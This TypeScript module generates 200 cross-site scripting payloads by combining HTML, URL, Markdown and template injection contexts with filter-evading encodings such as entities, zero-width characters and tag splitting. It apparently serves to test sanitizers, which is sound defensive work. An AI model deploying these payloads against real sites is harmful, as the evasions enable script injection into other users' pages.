/** The code that every payload tries to run. */
const code = 'alert(1)';

/** Contexts from which a script could run, in HTML, addresses, Markdown, pictures, styles, feeds and templates. */
const contexts: readonly string[] = [
  `<script>${code}</script>`,
  `<img src=x onerror=${code}>`,
  `<svg/onload=${code}>`,
  `</title></textarea></style><script>${code}</script>`,
  `</script><script>${code}</script>`,
  `--><script>${code}</script><!--`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">${code}</script>`,
  `"><img src=x onerror="${code}">`,
  `" autofocus onfocus="${code}" x="`,
  `' onmouseover='${code}' style='position:fixed;inset:0' x='`,
  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<a href="javascript:${code}" autofocus>a</a>`,
  `<form action="javascript:${code}"><input type=submit formaction="javascript:${code}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  `<object data="data:text/html,<script>${code}</script>"></object>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${code}"><base href="javascript:${code}//">`,
  `<div style="background:url(javascript:${code})">a</div><style>@import "javascript:${code}";</style>`,
  `javascript:${code}//`,
  `data:text/html,<script>${code}</script>`,
  `[a](javascript:${code}) ![b](javascript:${code})`,
  `<javascript:${code}> [a][b]\n\n[b]: javascript:${code} "c"`,
  `a[^1]\n\n[^1]: <img src=x onerror=${code}> [b](vbscript:${code})`,
  `![a](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>)`,
  `[a](https://example.org/"onmouseover="${code}) \`<b onclick=${code}>\``,
  `<p>{{constructor.constructor('${code}')()}} \${${code}} <%= ${code} %>`,
];

const entity = (text: string) =>
  [...text].map((character) => `&#${character.codePointAt(0)};`).join('');
const wide = (text: string) =>
  text.replace(/[!-~]/g, (character) => String.fromCharCode(character.charCodeAt(0) + 0xfee0));

/** Encodings of a payload that a later processing step may decode. */
const encodings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/[a-z](?=[a-z]*[=:> /])/g, (letter) => letter.toUpperCase()),
  (text) => text.replace(/[<>"'(]|javascript/g, entity),
  (text) => text.replace(/[<>"' :]/g, encodeURIComponent),
  (text) => `\u00ad${text.replace(/script:/g, '\tscript:').replace(/<(\w)/g, '<\u200b$1')}`,
  (text) => `\u2028\u202e\u2066${text.replace(/ /g, '\u2029')}`,
  (text) =>
    `<x>${text.replace(/<(\/?)(\w+)/g, '<<$1$2 <$1$2').replace(/script>/g, 'scr<script>ipt>')}`,
  (text) => text.replace(/[<>:'"]/g, (sign) => (sign === '<' ? '\\u003c' : wide(sign))),
];

/** 200 texts that run a script if any consumer treats them as more than text. */
export const scriptPayloads: readonly string[] = encodings.flatMap((encode) =>
  contexts.map(encode),
);

/** The payloads packed into as few texts as possible, of at most `max` code points and `each` payloads. */
export function packPayloads(max: number, each: number): readonly string[] {
  const packs: string[][] = [];
  const lengthOf = (texts: readonly string[]) => [...texts.join(' ')].length;
  for (const payload of scriptPayloads) {
    const one = [...payload].slice(0, max).join('');
    const last = packs.at(-1);
    if (last && last.length < each && lengthOf([...last, one]) <= max) last.push(one);
    else packs.push([one]);
  }
  return packs.map((texts) => texts.join(' '));
}
